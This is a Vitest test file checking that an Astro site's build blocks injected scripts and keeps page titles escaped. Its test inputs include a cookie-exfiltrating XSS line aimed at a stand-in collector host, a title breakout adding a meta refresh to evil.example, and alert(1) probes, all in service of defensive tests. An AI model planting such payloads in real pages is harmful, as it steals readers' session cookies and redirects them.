/**
 * Content that tries to run a script in the reader's browser, built for real in copies of the
 * project: the build stops before Astro renders anything and names the file, the line and the fix.
 * And a script that reaches a built page some other way stops the policy stage, which names the
 * page and where the script came from.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, describe, expect, test } from 'vitest';
import { copyProject, DIST, requireDist, ROOT } from '../helpers/project';

const SOURCES = ['src', 'components', 'content', 'public', 'scripts', 'astro.config.mjs', 'tsconfig.json', 'package.json'];
const copies: ReturnType<typeof copyProject>[] = [];
afterAll(() => copies.forEach((c) => c.cleanup()));

function project() {
	const copy = copyProject(SOURCES, { buildable: true });
	copies.push(copy);
	return copy;
}

function build(dir: string, ...args: string[]) {
	const run = spawnSync(process.execPath, ['scripts/build.ts', ...args], { cwd: dir, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', FORCE_COLOR: '0' }, timeout: 170_000 });
	return { status: run.status, output: `${run.stdout}\n${run.stderr}` };
}

/** The content check's block for one problem, as the build prints it. */
function expectStopped(output: string, status: number | null, file: string, line: number, what: string) {
	expect(status, output).not.toBe(0);
	expect(output).toContain('build: stage "site" failed');
	expect(output).toContain('1 content problem found:');
	expect(output).toContain(`1. ${file}\n`);
	expect(output).toContain(`at:   line ${line}, column `);
	expect(output).toContain(`what: ${what}`);
	expect(output).toContain('fix:  remove the element.');
	expect(output).not.toContain('policy  ');
}

describe('a script in content stops the build', () => {
	test('in an MDX page', () => {
		const copy = project();
		copy.edit('content/docs/es/tools/signal.mdx', (t) => t.replace(/\n## /, '\n<script>fetch("https://collector.example/?" + document.cookie)</script>\n\n## '));
		const line = readFileSync(join(copy.dir, 'content/docs/es/tools/signal.mdx'), 'utf8').split('\n').findIndex((l) => l.startsWith('<script>')) + 1;
		const { status, output } = build(copy.dir);
		expectStopped(output, status, 'content/docs/es/tools/signal.mdx', line, '<script> is not allowed in a page: it would run a script in readers’ browsers');
		expect(existsSync(join(copy.dir, 'dist'))).toBe(false);
	}, 180_000);

	test('in an interface string (downloads.version), which no page renders as HTML any more', () => {
		const copy = project();
		copy.edit('content/i18n/ar.json', (t) => t.replace('"downloads.version": "', '"downloads.version": "<script>alert(1)</script>'));
		const { status, output } = build(copy.dir);
		expectStopped(output, status, 'content/i18n/ar.json', readFileSync(join(ROOT, 'content/i18n/ar.json'), 'utf8').split('\n').findIndex((l) => l.includes('"downloads.version"')) + 1, '<script> is not allowed in content');
	}, 180_000);

	test('in a language label, shown on every page', () => {
		const copy = project();
		copy.edit('content/data/languages.yaml', (t) => t.replace('label: Français', 'label: Français<script>alert(1)</script>'));
		const { status, output } = build(copy.dir);
		expectStopped(output, status, 'content/data/languages.yaml', readFileSync(join(ROOT, 'content/data/languages.yaml'), 'utf8').split('\n').indexOf('  label: Français') + 1, '<script> is not allowed in content');
	}, 180_000);
});

describe('a title is text wherever the generator writes it', () => {
	test('a site title that closes <title> and <style> and adds a meta refresh stays text in the pages, the handout and its print style sheet', () => {
		const copy = project();
		// A copy whose content check reports nothing, whatever the content: what is tested is how pages write a title.
		copy.edit('src/lib/check-content.ts', (t) => t.replace('export function checkContent(root: string): CheckResult {', 'export function checkContent(root: string): CheckResult {\n\tif (root) return { problems: [], data: realCheck(root).data };\n\treturn realCheck(root);\n}\nfunction realCheck(root: string): CheckResult {'));
		// Nor does the page schema refuse markup in a title (src/schemas/page.ts), which stops the handout and the card.
		copy.edit('src/schemas/page.ts', (t) => t.replace('.refine((text) => !MARKUP.test(text),', '.refine((text) => text.length >= 0,'));
		const hostile = 'Guide</title></style><meta http-equiv="refresh" content="0;url=https://evil.example/">';
		copy.edit('content/i18n/fr.json', (t) => t.replace('"site.title": "Guide de communication sécurisée"', `"site.title": ${JSON.stringify(hostile)}`));
		const { status, output } = build(copy.dir, '--only', 'site');
		expect(status, output).toBe(0);
		for (const page of ['dist/fr/index.html', 'dist/fr/tools/signal/index.html', 'dist/fr/handout/index.html', 'dist/fr/card/index.html']) {
			const document = parse(readFileSync(join(copy.dir, page), 'utf8'));
			expect(document.querySelectorAll('meta[http-equiv]').length, page).toBe(0);
			expect(document.querySelector('title')!.text, page).toContain(hostile);
		}
		expect(readFileSync(join(copy.dir, 'dist/fr/handout/index.html'), 'utf8')).toContain('@top-center{content:"Guide\\3c /title>\\3c /style>\\3c meta');
	}, 180_000);
});

describe('a script in a built page that the generator did not write', () => {
	test('stops the build at the policy stage even when the content check is bypassed, naming the page and the MDX line', () => {
		const copy = project();
		// A copy whose content check no longer looks at pages or markup: the policy stage is the second lock.
		copy.edit('src/lib/check-content.ts', (t) => t.replace(/problems\.push\(\.\.\.pageProblems, \.\.\.checkMarkup\(root\)[^\n]*\n/, ''));
		copy.edit('content/docs/es/tools/signal.mdx', (t) => t.replace(/\n## /, '\n<script>document.title = "collected"</script>\n\n## '));
		const line = readFileSync(join(copy.dir, 'content/docs/es/tools/signal.mdx'), 'utf8').split('\n').findIndex((l) => l.startsWith('<script>')) + 1;
		const { status, output } = build(copy.dir, '--only', 'site,policy');
		expect(status, output).not.toBe(0);
		expect(output).toContain('build: stage "policy" failed: 1 inline script that the generator does not write found in the built pages:');
		expect(output).toContain('1. dist/es/tools/signal/index.html');
		expect(output).toContain(`from: content/docs/es/tools/signal.mdx, line ${line}`);
	}, 180_000);

	test('stops the policy stage, naming the page and the content file and line it came from', () => {
		requireDist();
		const copy = project();
		cpSync(DIST, join(copy.dir, 'dist'), { recursive: true });
		const script = 'document.title = "slipped past the content check"';
		// As if content had reached the page some way the content check does not read.
		const page = join(copy.dir, 'dist/fr/tools/signal/index.html');
		writeFileSync(page, readFileSync(page, 'utf8').replace('</main>', `<script>${script}</script></main>`));
		copy.edit('content/text/fr.yaml', (t) => `${t}# ${script}\n`);
		const line = readFileSync(join(copy.dir, 'content/text/fr.yaml'), 'utf8').trimEnd().split('\n').length;
		const { status, output } = build(copy.dir, '--only', 'policy');
		expect(status, output).not.toBe(0);
		expect(output).toContain('build: stage "policy" failed: 1 inline script that the generator does not write found in the built pages:');
		expect(output).toContain(`1. dist/fr/tools/signal/index.html\n   what: <script>${script}</script>\n   from: content/text/fr.yaml, line ${line}`);
		expect(output).toContain('fix:  remove the script from the file named.');
		// Nothing was sealed: the page is as it was found, and no server headers list the script.
		expect(readFileSync(page, 'utf8')).toContain(`<script>${script}</script>`);
	}, 180_000);
});
